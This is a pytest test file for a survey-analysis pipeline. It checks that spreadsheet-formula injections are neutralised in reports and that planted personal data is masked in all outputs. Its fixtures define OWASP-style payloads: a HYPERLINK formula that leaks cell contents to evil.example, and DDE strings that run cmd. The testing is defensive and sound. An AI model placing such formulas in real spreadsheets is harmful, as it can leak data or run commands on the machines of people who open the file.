"""Files from strangers: spreadsheet formulas and personal data.

A survey, complaint log and transcript as a careless or hostile party might send them: segment
levels and free text that a spreadsheet would run as formulas, phone numbers, e-mail addresses and
names where no column declares them, a staff member's name in texts, a phone column renamed by the
survey tool. The planted values share one run to the reports (``run_of_hostile``); each case
asserts that the run completed with every row accounted for (``hostile.rows_conserved``), the
masked or neutralised text where the value would have been, and that the value appears in no file
the pipeline writes (data/processed, reports, logs, .snakemake). Every case that runs the workflow
is marked ``slow``.
"""

from __future__ import annotations

import csv
import stat
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hostile import (
    Accepted,
    accepted,
    assert_nowhere,
    edit_config,
    new_study,
    refused,
    rows_conserved,
    run,
    survey,
)

from servqual.privacy import pseudonym, read_salt_file
from servqual.tables import FORMULA_STARTS, is_formula_like, read_table, write_table

#: Segment levels a spreadsheet would run (OWASP's examples) replacing the example's levels.
FORMULA_LEVELS = {
    "business": '=HYPERLINK("http://evil.example/?leak="&A1,"business")',
    "senior": "@SUM(1+1)*cmd|' /C calc'!A0",
}
FORMULA_BRANCH = {"Airport": "-2+3+cmd|' /C calc'!A0"}
#: A staff member named in open answers, complaints and a transcript, listed in privacy.names.
STAFF = "周志强"
STAFF_LATIN = "Zhou Zhiqiang"
PLANTED = {
    "phone": "13912345678",
    "email": "leak.me@example.org",
    "undeclared": "undeclared.secret@example.net",
}
TARGETS = [
    "reports/waves/tables/invariance.csv",
    "reports/wave1/report.html",
    "reports/wave1/results.xlsx",
]
PERSONAL = ("resp_id", "name", "phone", "email", "id_number")


def plant(study: Path) -> None:
    """Formula segment levels, a declared comment box holding the respondents' own names, phones
    and e-mails and a staff name, an undeclared column, and a complaint log and transcript naming
    the staff member."""
    for wave in ("wave1", "wave2"):
        path, frame = survey(study, wave)
        frame["customer_type"] = frame["customer_type"].replace(FORMULA_LEVELS)
        frame["branch"] = frame["branch"].replace(FORMULA_BRANCH)
        frame["comment"] = [
            f"我是{name}, call me on {phone} or {email}; {STAFF} was rude" if i % 3 == 0 else
            f"=HYPERLINK(\"http://evil.example\") ask {STAFF_LATIN}, ID {id_number}" if i % 3 == 1 else
            f"+{PLANTED['phone']} {PLANTED['email']}"
            for i, (name, phone, email, id_number) in enumerate(
                zip(frame["name"], frame["phone"], frame["email"], frame["id_number"], strict=True))
        ]
        frame["hobby_notes"] = PLANTED["undeclared"]
        frame.to_csv(path, index=False)
    complaints = study / "data/raw/wave1/complaints.csv"
    log = pd.read_csv(complaints, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    log.loc[0, "受理时间"] = PLANTED["phone"]  # a phone number typed into the timestamp column
    log.loc[1, "投诉内容"] = f"{STAFF}经理态度很差，邮箱 {PLANTED['email']}"
    log.loc[2, "类别"] = "=1+1"
    log.to_csv(complaints, index=False, encoding="utf-8-sig")
    interviews = study / "data/raw/wave1/interviews"
    said = f"柜台的{STAFF}经理态度很差，窗口太少，他电话 {PLANTED['phone']}"
    transcript = interviews / "customers_focus_group.txt"
    transcript.write_text(transcript.read_text(encoding="utf-8") + f"王芳：{said}。\n", encoding="utf-8")
    with (interviews / "coder_a.csv").open("a", encoding="utf-8") as handle:  # coded, placed by its quote
        handle.write(f"customers_focus_group.txt,Coder A,counters_understaffed,,,{said}\n")

    def change(config: dict) -> None:
        config["columns"]["free_text"] = ["comment"]
        config["privacy"] = {"names": [STAFF, STAFF_LATIN]}
        config["reliability"]["n_boot"] = 200

    edit_config(study, change)


@pytest.fixture(scope="module")
def run_of_hostile(tmp_path_factory) -> Accepted:
    """The example study with every value of :func:`plant`, run once to the reports."""
    return accepted(tmp_path_factory, "hostile", plant, *TARGETS)


@pytest.fixture(scope="module")
def hostile(run_of_hostile: Accepted) -> Path:
    assert run_of_hostile.result.returncode == 0, run_of_hostile.result.stderr[-5000:]
    return run_of_hostile.study


def personal_values(study: Path) -> list[str]:
    """Every value of the raw surveys' personal-data columns (and the respondent ids)."""
    values = []
    for wave in ("wave1", "wave2"):
        _, frame = survey(study, wave)
        values += [v for c in PERSONAL for v in frame[c]]
    return values


# --- spreadsheet formulas -------------------------------------------------------------------------


@pytest.mark.slow
def test_every_csv_cell_that_would_run_as_a_formula_is_neutralised(hostile):
    checked = 0
    for folder in ("reports", "data/processed"):
        for path in (hostile / folder).rglob("*.csv"):
            with path.open(encoding="utf-8", newline="") as handle:
                for line, row in enumerate(csv.reader(handle), start=1):
                    for cell in row:
                        checked += 1
                        assert not is_formula_like(cell), f"{path.relative_to(hostile)} line {line}: {cell!r}"
    assert checked > 10_000
    segments = (hostile / "reports/wave1/tables/segments.csv").read_text(encoding="utf-8")
    assert "'" + FORMULA_LEVELS["senior"] in segments and "'" + FORMULA_BRANCH["Airport"] in segments
    # The branch level sorts first among the groups that invariance.csv lists in one cell.
    for name, neutralised in (("wave1/tables/segments_posthoc.csv", "'@SUM"), ("waves/tables/wave_segments.csv", "'=HYPERLINK"),
                              ("waves/tables/invariance.csv", "'-2+3"), ("wave1/tables/complaints_pareto.csv", "'=1+1")):
        assert neutralised in (hostile / "reports" / name).read_text(encoding="utf-8"), name


@pytest.mark.slow
def test_the_pipeline_reads_its_tables_back_as_they_were(hostile):
    levels = set(read_table(hostile / "reports/wave1/tables/segments.csv")["level_value"])
    assert set(FORMULA_LEVELS.values()) <= levels
    # Numbers stay numbers: negative gaps are not neutralised text.
    gaps = read_table(hostile / "reports/wave1/tables/gaps_dimensions.csv")
    assert pd.api.types.is_float_dtype(gaps["gap"]) and (gaps["gap"] < 0).any()


@pytest.mark.slow
def test_the_workbook_keeps_formula_text_as_quoted_text(hostile):
    book = openpyxl.load_workbook(hostile / "reports/wave1/results.xlsx")
    found = 0
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if is_formula_like(cell.value):
                    found += 1
                    assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
    assert found
    values = {cell.value for row in book["segments"].iter_rows() for cell in row}
    assert FORMULA_LEVELS["business"] in values  # shown as it was, without the quote


@pytest.mark.slow
def test_the_report_shows_the_levels_without_the_quote(hostile):
    html = (hostile / "reports/wave1/report.html").read_text(encoding="utf-8")
    assert "@SUM(1+1)*cmd|&#x27; /C calc&#x27;!A0" in html or "@SUM(1+1)*cmd|' /C calc'!A0" in html
    assert "'@SUM" not in html and "&#x27;@SUM" not in html and "&#39;@SUM" not in html


@pytest.mark.parametrize("value", ["=1+1", "+1+1", "-1+1", "@A1", "\tx", "\rx", "a\r\nb", "'=x", "'plain"])
def test_write_and_read_table_round_trip(tmp_path, value):
    path = tmp_path / "t.csv"
    write_table(pd.DataFrame({"text": [value, "ok"], "n": [-1.5, 2.0]}), path)
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    assert len(rows) == 3 and rows[0] == ["text", "n"] and rows[1][1] == "-1.5"
    assert rows[1][0][:1] not in FORMULA_STARTS
    back = read_table(path)
    # A carriage return in a cell is written as the line break it is.
    expected = value.replace("\r\n", "\n").replace("\r", "\n")
    assert back["text"].tolist() == [expected, "ok"] and back["n"].tolist() == [-1.5, 2.0]


# --- personal data ----------------------------------------------------------------------------------
@pytest.mark.slow
def test_no_planted_personal_value_reaches_any_output(run_of_hostile):
    run_of_hostile.check(*personal_values(run_of_hostile.study), *PLANTED.values(), STAFF, STAFF_LATIN)


def respondents(study: Path, wave: str, column: str) -> list[str]:
    return list(survey(study, wave)[1][column])


#: Each planted value, case by case: (the values that must appear nowhere, the file and the
#: masked or neutralised text it must hold instead).
PLANTED_CASES = {
    "respondent's name in free text": (lambda s: respondents(s, "wave1", "name"),
                                       "data/processed/wave1/responses.parquet", "我是[name], call me"),
    "respondent's phone in free text": (lambda s: respondents(s, "wave1", "phone"),
                                        "data/processed/wave1/responses.parquet", "call me on [phone]"),
    "e-mail in free text": (lambda s: [PLANTED["email"], *respondents(s, "wave2", "email")],
                            "data/processed/wave2/responses.parquet", "or [email]; [name] was rude"),
    "ID number in free text": (lambda s: respondents(s, "wave1", "id_number"),
                               "data/processed/wave1/responses.parquet", "ask [name], ID [id]"),
    "staff name": (lambda s: [STAFF], "data/processed/wave1/segments.parquet", "柜台的[name]经理态度很差"),
    "staff name in Latin letters": (lambda s: [STAFF_LATIN], "data/processed/wave2/responses.parquet", "ask [name]"),
    "undeclared column": (lambda s: [PLANTED["undeclared"]], "data/processed/wave1/responses.parquet", "comment"),
    "phone in a complaint timestamp": (lambda s: [PLANTED["phone"]], "logs/wave1/complaints.log", "[phone]"),
    "staff and e-mail in a complaint": (lambda s: [STAFF, PLANTED["email"]], "data/processed/wave1/complaints.parquet",
                                        "[name]经理态度很差，邮箱 [email]"),
    "phone in a transcript": (lambda s: [PLANTED["phone"]], "data/processed/wave1/segments.parquet", "他电话 [phone]"),
    "unmapped phone column of a complaint log": (
        lambda s: list(pd.read_csv(s / "data/raw/wave1/complaints.csv", dtype=str, encoding="utf-8-sig")["客户电话"]),
        "data/processed/wave1/complaints.parquet", "text"),
    "formula segment level (=)": (lambda s: [], "reports/wave1/tables/segments.csv", "'=HYPERLINK(\"\"http://evil"),
    "formula segment level (@)": (lambda s: [], "reports/wave1/tables/segments_posthoc.csv", "'@SUM"),
    "formula branch (-)": (lambda s: [], "reports/waves/tables/invariance.csv", "'-2+3"),
    "formula complaint category": (lambda s: [], "reports/wave1/tables/complaints_pareto.csv", "'=1+1"),
}


@pytest.mark.slow
@pytest.mark.parametrize("case", PLANTED_CASES)
def test_planted_value_is_masked_or_neutralised_everywhere(run_of_hostile, case):
    """The run completes with every row accounted for; the planted value appears in no file it
    wrote, and the file that carries it holds the mask or the neutralised formula instead."""
    values, name, shown = PLANTED_CASES[case]
    study = run_of_hostile.study
    run_of_hostile.check(*values(study))
    assert shown in run_of_hostile.texts[name], name
    if name.endswith(".csv"):
        for path in (study / "reports").rglob("*.csv"):
            for line, row in enumerate(csv.reader(path.open(encoding="utf-8", newline="")), start=1):
                assert not any(is_formula_like(cell) for cell in row), f"{path} line {line}"


@pytest.mark.slow
def test_declared_free_text_is_kept_masked_and_undeclared_columns_are_left_out(hostile):
    responses = pd.read_parquet(hostile / "data/processed/wave1/responses.parquet")
    assert "comment" in responses and "hobby_notes" not in responses and "attention" not in responses
    text = " ".join(responses["comment"])
    for mask in ("[name]", "[phone]", "[email]", "[id]"):
        assert mask in text, mask


@pytest.mark.slow
def test_complaint_problems_echo_masked_values(hostile):
    problems = read_table(hostile / "reports/wave1/tables/complaint_problems.csv")
    assert "[phone]" in set(problems["value"])
    complaints = pd.read_parquet(hostile / "data/processed/wave1/complaints.parquet")
    assert complaints["text"].str.contains(r"\[name\]经理态度很差，邮箱 \[email\]").any()
    log = (hostile / "logs/wave1/complaints.log").read_text(encoding="utf-8")
    assert "[phone]" in log and PLANTED["phone"] not in log


@pytest.mark.slow
@pytest.mark.parametrize("wave", ["wave1", "wave2"])
def test_a_renamed_personal_data_column_is_an_error(tmp_path, wave):
    """An export that renamed `phone` to `mobile` used to put every phone number into
    responses.parquet."""
    study = new_study(tmp_path)
    path, frame = survey(study, wave)
    frame.rename(columns={"phone": "mobile"}).to_csv(path, index=False)
    refused(study, [f"data/processed/{wave}/responses.parquet"],
            f"data/raw/{wave}/survey.csv: personal-data column(s) ['phone'] (config columns.personal_data) are not in "
            "the export", *frame["phone"])


@pytest.mark.slow
def test_a_dry_run_writes_nothing_and_a_run_makes_an_owner_only_64_bit_salt(tmp_path):
    study = new_study(tmp_path)
    before = {p for p in study.rglob("*") if ".snakemake" not in p.parts}
    result = run(study, "-n", env={"SERVQUAL_SALT": None})
    assert result.returncode == 0, result.stderr[-3000:]
    assert {p for p in study.rglob("*") if ".snakemake" not in p.parts} == before
    result = run(study, "data/processed/wave1/responses.parquet", env={"SERVQUAL_SALT": None})
    assert result.returncode == 0, result.stderr[-3000:]
    salt = study / ".servqual_salt"
    assert stat.S_IMODE(salt.stat().st_mode) == 0o600
    assert "scheme 2" in salt.read_text(encoding="utf-8").splitlines()[0]
    responses = pd.read_parquet(study / "data/processed/wave1/responses.parquet")
    assert responses["respondent"].str.fullmatch(r"R[0-9a-f]{16}").all()
    rows_conserved(study)
    assert_nowhere(study, [*personal_values(study)[:405], read_salt_file(salt)[0].decode()])


@pytest.mark.slow
def test_a_study_begun_with_48_bit_pseudonyms_keeps_them(tmp_path):
    study = new_study(tmp_path)
    (study / ".servqual_salt").write_text("0123456789abcdef-earlier-study\n", encoding="utf-8")
    result = run(study, "data/processed/wave1/responses.parquet", env={"SERVQUAL_SALT": None})
    assert result.returncode == 0, result.stderr[-3000:]
    responses = pd.read_parquet(study / "data/processed/wave1/responses.parquet")
    _, frame = survey(study, "wave1")
    first = frame.set_index("resp_id").index[0]
    expected = pseudonym(first, b"0123456789abcdef-earlier-study", length=12)
    assert responses["respondent"].str.fullmatch(r"R[0-9a-f]{12}").all()
    assert expected in set(responses["respondent"])
    rows_conserved(study)
    assert_nowhere(study, [*personal_values(study)[:405], "0123456789abcdef-earlier-study"])
